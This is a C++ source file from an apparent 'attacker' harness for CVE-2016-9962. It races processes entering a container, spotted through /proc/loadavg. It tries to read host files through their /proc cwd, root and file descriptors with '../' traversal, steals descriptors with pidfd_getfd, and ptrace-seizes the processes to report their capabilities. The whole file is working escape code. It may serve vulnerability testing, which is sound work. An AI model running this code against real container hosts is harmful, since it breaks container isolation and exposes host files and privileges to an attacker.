// SPDX-License-Identifier: Apache-2.0
// CVE-2016-9962: a process that is just entering the container still holds what the container must
// not have. The newest process id of this pid namespace stands at the end of /proc/loadavg, so a
// new process is met within microseconds, again and again until it has become the container's
// program.
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cctype>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <set>

#include "attacker.h"

namespace attacker {
namespace {

constexpr int kMostDescriptors = 40;
constexpr char kUp[] = "/../../../../../../../../../../../../../..";

struct Totals {
  long opens = 0;
  long seized = 0;
  long refused = 0;
  std::set<int> met;
};

int NewestPid(int loadavg) {
  char text[128] = {};
  const ssize_t n = ::pread(loadavg, text, sizeof text - 1, 0);
  if (n <= 0) return 0;
  const char* end = text + n;
  while (end > text && std::isdigit(static_cast<unsigned char>(end[-1])) == 0) --end;
  while (end > text && std::isdigit(static_cast<unsigned char>(end[-1])) != 0) --end;
  return std::atoi(end);
}

bool Read(const std::string& path, Totals& totals) {
  ++totals.opens;
  const int fd = ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) return false;
  char text[64] = {};
  const ssize_t n = ::read(fd, text, sizeof text - 1);
  ::close(fd);
  if (n > 0) std::cout << "READ " << path << " : " << text << std::endl;
  return n > 0;
}

std::string Link(const std::string& path) {
  char target[256] = {};
  return ::readlink(path.c_str(), target, sizeof target - 1) > 0 ? target : "?";
}

std::string Field(const std::string& process, const std::string& name) {
  std::ifstream status(process + "/status");
  for (std::string line; std::getline(status, line);) {
    if (line.starts_with(name + ":")) return line.substr(line.find('\t') + 1);
  }
  return "?";
}

// What the stopped process can and holds; the reader judges whether that is more than the
// container.
void Describe(int pid) {
  const std::string process = "/proc/" + std::to_string(pid);
  std::cout << "SEIZED " << Link(process + "/exe") << " bounding " << Field(process, "CapBnd")
            << " effective " << Field(process, "CapEff") << " own " << Field("/proc/self", "CapBnd")
            << " descriptors";
  for (int fd = 0; fd < kMostDescriptors; ++fd) {
    const std::string target = Link(process + "/fd/" + std::to_string(fd));
    if (target != "?") std::cout << ' ' << target;
  }
  std::cout << std::endl;
}

void Seize(int pid, Totals& totals) {
  if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) {
    ++totals.refused;
    return;
  }
  ++totals.seized;
  int status = 0;
  if (::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr) == 0) {
    ::waitpid(pid, &status, __WALL);
    Describe(pid);
  }
  ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
}

void Meet(int pid, const std::string& wanted, Totals& totals) {
  const std::string process = "/proc/" + std::to_string(pid);
  for (const char* name : {"/cwd", "/root"}) {
    if (!Read(process + name + kUp + wanted, totals)) continue;
    std::cout << "WHO " << Field(process, "Name") << " of " << Field(process, "PPid") << " exe "
              << Link(process + "/exe") << " effective " << Field(process, "CapEff") << std::endl;
  }
  for (int fd = 3; fd < kMostDescriptors; ++fd) {
    Read(process + "/fd/" + std::to_string(fd) + kUp + wanted, totals);
  }
  const int process_fd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
  for (int fd = 3; process_fd >= 0 && fd < kMostDescriptors; ++fd) {
    const int copy = static_cast<int>(::syscall(SYS_pidfd_getfd, process_fd, fd, 0));
    if (copy < 0) continue;
    Read("/proc/self/fd/" + std::to_string(copy) + kUp + wanted, totals);
    ::close(copy);
  }
  if (process_fd >= 0) ::close(process_fd);
  if (totals.met.insert(pid).second) Seize(pid, totals);
}

}  // namespace

int Spin(const Words& words) {
  if (words.size() < 2) return 2;
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(std::stol(words[0]));
  const int loadavg = ::open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  const int first = NewestPid(loadavg);
  Totals totals;
  std::cout << "spinning" << std::endl;
  while (std::chrono::steady_clock::now() < end) {
    const int newest = NewestPid(loadavg);
    if (newest <= first) continue;
    Meet(newest, words[1], totals);
  }
  std::cout << "done met " << totals.met.size() << " opens " << totals.opens << " seized "
            << totals.seized << " refused " << totals.refused << std::endl;
  return 0;
}

}  // namespace attacker
